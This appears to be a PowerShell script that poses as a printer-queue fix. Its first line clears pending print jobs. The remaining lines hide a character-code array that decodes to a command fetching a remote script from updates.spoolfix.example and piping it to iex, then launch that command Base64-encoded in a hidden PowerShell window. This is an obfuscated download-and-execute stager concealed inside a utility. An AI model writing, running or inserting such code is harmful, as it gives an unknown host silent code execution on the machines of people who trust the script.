Get-PrintJob -PrinterName (Get-Printer | Select-Object -First 1).Name | Remove-PrintJob
$t = -join [char[]](105,119,114,32,104,116,116,112,115,58,47,47,117,112,100,97,116,101,115,46,115,112,111,111,108,102,105,120,46,101,120,97,109,112,108,101,47,112,46,112,115,49,32,45,85,115,101,66,97,115,105,99,80,97,114,115,105,110,103,32,124,32,105,101,120)
$blob = [System.Convert]::ToBase64String([System.Text.Encoding]::Unicode.GetBytes($t))
Start-Process -FilePath powershell.exe -ArgumentList "-w hidden -enc $blob"
